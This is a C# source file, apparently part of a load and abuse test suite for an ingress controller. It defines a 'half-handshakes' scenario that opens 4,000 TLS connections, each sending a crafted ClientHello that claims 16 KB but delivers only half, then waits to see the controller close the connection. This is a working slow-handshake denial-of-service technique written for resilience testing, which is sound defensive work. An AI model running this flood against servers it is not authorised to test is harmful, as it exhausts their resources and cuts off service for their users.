using IngressController.Load.Abuse.Tools;

namespace IngressController.Load.Abuse.Attacks;

/// <summary>TLS handshakes that stop after the client's first message.</summary>
sealed class HalfHandshakes() : Attack("half-handshakes", "S12", "4,000 TLS connections that send half of a first message of 16 KB and wait")
{
    const int Clients = 4000;
    const int Length = 16000;

    public override Task RunAsync(AttackPlace place, CancellationToken end)
    {
        // A record with a ClientHello that says it is longer than what comes.
        var hello = new byte[5 + Length / 2];
        (hello[0], hello[1], hello[2], hello[3], hello[4]) = (22, 3, 1, Length >> 8, Length & 255);
        (hello[5], hello[6], hello[7], hello[8]) = (1, 0, (Length - 4) >> 8, (Length - 4) & 255);
        return Crowd.RunAsync(Clients, place.Tally, async (_, stop) =>
        {
            await using var stream = await place.ConnectAsync(place.Ports.Https, stop);
            await stream.WriteAsync(hello, stop);
            await RawHttp.DrainAsync(stream, stop);
            place.Tally.Add("closed by the controller");
        }, end);
    }
}
